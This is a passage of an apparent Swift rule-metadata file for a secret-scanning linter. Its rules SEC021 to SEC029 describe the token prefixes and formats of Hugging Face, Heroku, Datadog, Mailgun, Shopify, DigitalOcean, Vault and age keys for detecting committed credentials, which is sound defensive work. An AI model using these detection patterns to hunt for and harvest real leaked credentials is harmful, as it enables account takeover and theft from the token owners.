            references: ["CWE-798: Use of Hard-coded Credentials", "https://huggingface.co/docs/hub/security-tokens", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "huggingface-access-token, huggingface-organization-api-token"), (tool: "trufflehog", id: "HuggingFace")],
            options: [],
            summary: "Reports Hugging Face user access tokens (`hf_` and 34 letters) and organization tokens (`api_org_` and 34 letters).",
            sourcePath: "Rules/secrets/SEC021.md"
        ),
        RuleMetadata(
            id: "SEC022", title: "Heroku API key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://devcenter.heroku.com/articles/authentication", "https://devcenter.heroku.com/articles/platform-api-quickstart", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "heroku-api-key"), (tool: "trufflehog", id: "Heroku")],
            options: [],
            summary: "Reports Heroku API keys: the `HRKU-` format and legacy UUID keys assigned to a key naming Heroku (`HEROKU_API_KEY`).",
            sourcePath: "Rules/secrets/SEC022.md"
        ),
        RuleMetadata(
            id: "SEC023", title: "Datadog API or application key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "6.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://docs.datadoghq.com/account_management/api-app-keys/", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "datadog-access-token"), (tool: "trufflehog", id: "DatadogToken")],
            options: [],
            summary: "Reports Datadog API keys (32 hex digits) and application keys (40 hex digits) assigned to `DD_API_KEY`, `DD_APP_KEY`, `datadog_api_key` and similar keys.",
            sourcePath: "Rules/secrets/SEC023.md"
        ),
        RuleMetadata(
            id: "SEC024", title: "Mailgun API key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "7.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://documentation.mailgun.com/docs/mailgun/api-reference/authentication/", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "mailgun-private-api-token"), (tool: "trufflehog", id: "Mailgun")],
            options: [],
            summary: "Reports Mailgun private API keys (`key-` and 32 hex digits).",
            sourcePath: "Rules/secrets/SEC024.md"
        ),
        RuleMetadata(
            id: "SEC025", title: "Shopify access token committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://shopify.dev/docs/apps/build/authentication-authorization/access-tokens", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "shopify-access-token, shopify-custom-access-token, shopify-private-app-access-token, shopify-shared-secret"), (tool: "trufflehog", id: "Shopify")],
            options: [],
            summary: "Reports Shopify access tokens and shared secrets (`shpat_`, `shpca_`, `shppa_`, `shpss_` and 32 hex digits).",
            sourcePath: "Rules/secrets/SEC025.md"
        ),
        RuleMetadata(
            id: "SEC026", title: "DigitalOcean token committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://docs.digitalocean.com/reference/api/create-personal-access-token/", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "digitalocean-pat, digitalocean-access-token, digitalocean-refresh-token")],
            options: [],
            summary: "Reports DigitalOcean personal access, OAuth and refresh tokens (`dop_v1_`, `doo_v1_`, `dor_v1_` and 64 hex digits), typically in a Terraform `provider \"digitalocean\"` block.",
            sourcePath: "Rules/secrets/SEC026.md"
        ),
        RuleMetadata(
            id: "SEC027", title: "HashiCorp Vault or Terraform Cloud token committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "9.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://developer.hashicorp.com/vault/docs/concepts/tokens#token-prefixes", "https://developer.hashicorp.com/terraform/cloud-docs/users-teams-organizations/api-tokens", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "vault-service-token, vault-batch-token, hashicorp-tf-api-token"), (tool: "trufflehog", id: "TerraformCloudPersonalToken")],
            options: [],
            summary: "Reports HashiCorp Vault service and batch tokens (`hvs.`, `hvb.`) and Terraform Cloud / HCP Terraform API tokens (`….atlasv1.…`).",
            sourcePath: "Rules/secrets/SEC027.md"
        ),
        RuleMetadata(
            id: "SEC028", title: "age secret key committed", kind: "any", severity: .error,
            tags: ["security"], securitySeverity: "8.5",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://age-encryption.org/v1", "https://github.com/getsops/sops#encrypting-using-age", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "gitleaks", id: "age-secret-key")],
            options: [],
            summary: "Reports age identities (`AGE-SECRET-KEY-1` and 58 bech32 characters), often committed next to SOPS-encrypted files. Recipients (`age1…`) are public keys and are not reported.",
            sourcePath: "Rules/secrets/SEC028.md"
        ),
        RuleMetadata(
            id: "SEC029", title: "Literal high-entropy secret assigned to a secret-named key", kind: "any", severity: .warning,
            tags: ["security"], securitySeverity: "7.0",
            references: ["CWE-798: Use of Hard-coded Credentials", "https://cheatsheetseries.owasp.org/cheatsheets/Secrets_Management_Cheat_Sheet.html", "https://docs.docker.com/build/building/secrets/", "https://kubernetes.io/docs/concepts/configuration/secret/", "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"],
            equivalents: [(tool: "checkov", id: "CKV_SECRET_6, CKV_SECRET_10, CKV_SECRET_19"), (tool: "gitleaks", id: "generic-api-key")],
            options: [],
            summary: "Reports a key whose name says it holds a secret (`password`, `passwd`, `passphrase`, `secret`, `token`, `api_key`, `access_key`, `private_key`, `auth_key`, `signing_key`, `encryption_key`, `master_key`, in any case and with `_`, `-`, `.` or none between the words) assigned a literal value that looks generated: long enough, mixed, and of high Shannon entropy. It reads `=`, `:`, `:=`, `=>` assignments in YAML, JSON, HCL, `.env` and shell forms, Dockerfile `ENV`/`ARG` (both forms), Kubernetes `- name:` / `value:` pairs and HCL variable defaults.",
            sourcePath: "Rules/secrets/SEC029.md"
        ),
    ]
}
